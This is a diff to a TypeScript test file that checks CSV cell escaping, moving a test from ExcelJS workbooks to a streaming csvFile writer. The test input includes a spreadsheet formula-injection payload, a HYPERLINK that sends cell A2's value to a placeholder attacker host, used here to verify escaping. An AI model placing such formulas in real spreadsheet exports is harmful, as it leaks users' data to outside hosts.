@@ -1,4 +1,3 @@
-import ExcelJS from "exceljs";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { csvCell, csvFile } from "./csvFile.js";
@@ -31,11 +30,14 @@ describe("csvCell", () => {
   });
 
   it("writes the escaped text into the file, quoted where CSV needs it", async () => {
-    const workbook = new ExcelJS.Workbook();
-    workbook
-      .addWorksheet("x")
-      .addRow(['=HYPERLINK("http://evil.example/?x="&A2,"Klik")', "+Gudang", -6.2, "B 1 A"]);
-    const lines = (await csvFile(workbook))
+    const csv = csvFile();
+    const chunks: Buffer[] = [];
+    csv.on("data", (chunk: Buffer) => chunks.push(chunk));
+    const ended = new Promise((resolve) => csv.on("end", resolve));
+    csv.write(['=HYPERLINK("http://evil.example/?x="&A2,"Klik")', "+Gudang", -6.2, "B 1 A"]);
+    csv.end();
+    await ended;
+    const lines = Buffer.concat(chunks)
       .toString("utf8")
       .replace(/^\uFEFF/, "")
       .trim();
